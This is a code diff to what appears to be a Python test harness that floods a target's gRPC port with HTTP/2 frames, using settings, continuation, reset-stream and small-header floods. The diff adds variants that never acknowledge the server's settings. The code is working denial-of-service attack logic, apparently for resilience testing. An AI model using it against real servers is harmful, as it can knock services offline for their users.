@@ -133,11 +133,17 @@ CALL_HEADERS = b"".join(
         (b"te", b"trailers"),
     )
 )
+ACKNOWLEDGEMENT = frame(4, 1, 0)
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0)
 
 
-def frames(make: Callable[[int], bytes], count: int, seconds: float = 1.0) -> Attack:
-    """Return an attack that writes `make(number)`, `count` at a time, and drops what it reads."""
+def frames(
+    make: Callable[[int], bytes], count: int, seconds: float = 1.0, acknowledged: bool = True
+) -> Attack:
+    """Return an attack that writes `make(number)`, `count` at a time, and drops what it reads.
+
+    Without `acknowledged`, it never acknowledges the server's settings.
+    """
 
     def attack(target: Target) -> str:
         end, number = time.monotonic() + seconds, 0
@@ -145,9 +151,12 @@ def frames(make: Callable[[int], bytes], count: int, seconds: float = 1.0) -> At
             with socket.create_connection(
                 (target.host, target.grpc_port), timeout=10
             ) as connection:
+                connection.sendall(PREFACE)
+                if acknowledged:
+                    connection.recv(1 << 16)
+                    connection.sendall(ACKNOWLEDGEMENT)
                 reader = threading.Thread(target=_drop, args=(connection,), daemon=True)
                 reader.start()
-                connection.sendall(PREFACE)
                 while time.monotonic() < end:
                     connection.sendall(b"".join([make(number + one) for one in range(count)]))
                     number += count
@@ -245,4 +254,13 @@ GRPC_KINDS = (
     Kind("grpc_settings", partial(frames, settings, 500), 4),
     Kind("grpc_continuations", partial(frames, continuation, 10), 4),
     Kind("grpc_small entries", partial(frames, small_entries, 1)),
+    *(
+        Kind(f"grpc_unacknowledged {name}", partial(frames, make, 10, acknowledged=False), 4)
+        for name, make in (
+            ("small entries", small_entries),
+            ("continuations", continuation),
+            ("resets", reset_stream),
+            ("settings", settings),
+        )
+    ),
 )
